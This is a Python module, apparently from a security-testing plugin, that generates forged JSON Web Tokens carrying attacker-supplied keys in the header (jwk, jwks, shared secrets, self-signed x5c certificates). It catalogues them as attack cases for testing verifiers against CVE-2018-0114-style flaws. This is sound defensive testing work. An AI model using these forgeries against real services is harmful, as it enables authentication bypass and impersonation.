"""Tokens that bring their own key in the header.

RFC 7515, sections 4.1.3 and 4.1.6: ``jwk`` and ``x5c`` say which key was used, not which to trust.
CVE-2018-0114 (node-jose), CVE-2026-27962 (Authlib). ASVS 5.0 V9.1.3.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Iterator, Mapping
from functools import partial
from typing import Any

from pytest_devsecops.identity.tokens.keys import (
    CURVES,
    EDWARDS,
    attacker_certificate,
    attacker_key,
    fingerprint,
    hmac_sign,
    public_jwk,
    signer,
)
from pytest_devsecops.identity.tokens.model import Attack, AttackClass, Knowledge, NotApplicableError, b64, jws

_REFS = ("RFC 7515 4.1.3", "CVE-2018-0114", "asvs:v5.0.0-9.1.3")
_X5C = ("RFC 7515 4.1.6", "RFC 8725 3.10", "asvs:v5.0.0-9.1.3")
_ALGORITHMS = ("RS256", "PS256", "ES256", "ES384", "ES512", "EdDSA")


def own_algorithm(known: Knowledge) -> str:
    """Return the sample's algorithm if an attacker can sign with it, else ES256."""
    algorithm = known.sample.algorithm
    usable = algorithm in (*EDWARDS, *CURVES) or algorithm[:2] in ("RS", "PS")
    return algorithm if usable else "ES256"


def own_token(known: Knowledge, header: Mapping[str, Any], algorithm: str) -> str:
    """Return a token with the forged claims, signed with the attacker's own key."""
    return jws(header, known.forged_claims, signer(attacker_key(algorithm), algorithm))


def _jwk(algorithm: str, known: Knowledge) -> str:
    jwk = public_jwk(attacker_key(algorithm).public_key())
    header = {key: value for key, value in known.header(alg=algorithm, jwk=jwk).items() if key != "kid"}
    return own_token(known, header, algorithm)


def _jwk_with_kid(known: Knowledge) -> str:
    algorithm = own_algorithm(known)
    kid = known.sample.header.get("kid", "1")
    jwk = {**public_jwk(attacker_key(algorithm).public_key()), "kid": kid, "use": "sig", "alg": algorithm}
    return own_token(known, known.header(alg=algorithm, kid=kid, jwk=jwk), algorithm)


def _jwk_as_text(known: Knowledge) -> str:
    algorithm = own_algorithm(known)
    jwk = json.dumps(public_jwk(attacker_key(algorithm).public_key()))
    return own_token(known, known.header(alg=algorithm, jwk=jwk), algorithm)


def _jwks(known: Knowledge) -> str:
    algorithm = own_algorithm(known)
    keys = {"keys": [public_jwk(attacker_key(algorithm).public_key())]}
    return own_token(known, known.header(alg=algorithm, jwks=keys, jwk=keys), algorithm)


def _shared(known: Knowledge) -> str:
    jwk = {"kty": "oct", "k": b64(b"attacker" * 4), "alg": "HS256"}
    return jws(known.header(alg="HS256", jwk=jwk), known.forged_claims, hmac_sign(b"attacker" * 4))


def _empty_shared(known: Knowledge) -> str:
    return jws(known.header(alg="HS256", jwk={"kty": "oct", "k": ""}), known.forged_claims, hmac_sign(b""))


def _certificate(algorithm: str, known: Knowledge) -> str:
    chain = [base64.b64encode(attacker_certificate(algorithm)).decode()]
    header = {key: value for key, value in known.header(alg=algorithm, x5c=chain).items() if key != "kid"}
    return own_token(known, header, algorithm)


def _certificate_before_issuers(known: Knowledge) -> str:
    chain = known.key.jwk.get("x5c") if known.key is not None else None
    if not isinstance(chain, list) or not chain:
        raise NotApplicableError("the issuer publishes no certificate to put behind the attacker's")
    algorithm = own_algorithm(known)
    ours = base64.b64encode(attacker_certificate(algorithm)).decode()
    return own_token(known, known.header(alg=algorithm, x5c=[ours, *chain]), algorithm)


def _certificate_with_thumbprint(known: Knowledge) -> str:
    algorithm = own_algorithm(known)
    der = attacker_certificate(algorithm)
    marks = {"x5t": fingerprint(der, "sha1"), "x5t#S256": fingerprint(der)}
    return own_token(known, known.header(alg=algorithm, x5c=[base64.b64encode(der).decode()], **marks), algorithm)


def _certificate_as_text(known: Knowledge) -> str:
    algorithm = own_algorithm(known)
    chain = base64.b64encode(attacker_certificate(algorithm)).decode()
    return own_token(known, known.header(alg=algorithm, x5c=chain), algorithm)


def _certificate_pem(known: Knowledge) -> str:
    algorithm = own_algorithm(known)
    body = base64.b64encode(attacker_certificate(algorithm)).decode()
    pem = f"-----BEGIN CERTIFICATE-----\n{body}\n-----END CERTIFICATE-----\n"
    return own_token(known, known.header(alg=algorithm, x5c=[pem]), algorithm)


def _no_key(algorithm: str, known: Knowledge) -> str:
    return own_token(known, known.header(alg=algorithm), algorithm)


def _attacks() -> Iterator[Attack]:
    for algorithm in _ALGORITHMS:
        title = f"the header brings a key (jwk) that signed it with {algorithm}"
        yield Attack(f"embedded-key/jwk {algorithm}", title, _REFS, partial(_jwk, algorithm))
    others: tuple[tuple[str, str, Callable[[Knowledge], str], tuple[str, ...]], ...] = (
        ("jwk with the issuer's kid", "the header brings a key under the kid of the issuer's", _jwk_with_kid, _REFS),
        ("jwk as text", "the header brings a key as JSON in a string", _jwk_as_text, _REFS),
        ("jwks", "the header brings a key set", _jwks, _REFS),
        ("jwk oct", "the header brings a shared secret", _shared, _REFS),
        ("jwk oct empty", "the header brings an empty shared secret", _empty_shared, _REFS),
        (
            "x5c thumbprints",
            "the header brings a self-signed certificate and its hashes",
            _certificate_with_thumbprint,
            _X5C,
        ),
        ("x5c as text", "the header brings a self-signed certificate in a string", _certificate_as_text, _X5C),
        ("x5c PEM", "the header brings a self-signed certificate as PEM", _certificate_pem, _X5C),
        ("x5c chain", "a self-signed certificate stands before the issuer's", _certificate_before_issuers, _X5C),
    )
    for algorithm in ("RS256", "ES256"):
        title = f"the header brings a self-signed certificate (x5c) whose key signed it with {algorithm}"
        yield Attack(f"embedded-key/x5c {algorithm}", title, _X5C, partial(_certificate, algorithm))
    for name, title, make, refs in others:
        yield Attack(f"embedded-key/{name}", title, refs, make)
    for algorithm in ("RS256", "PS256", "ES256", "EdDSA"):
        title = f"the attacker's own key signed it with {algorithm}"
        yield Attack(
            f"embedded-key/none, {algorithm}", title, ("RFC 7515 5.2", *_REFS[2:]), partial(_no_key, algorithm)
        )


EMBEDDED_KEY = AttackClass("embedded-key", "tokens that bring their own key", tuple(_attacks()))
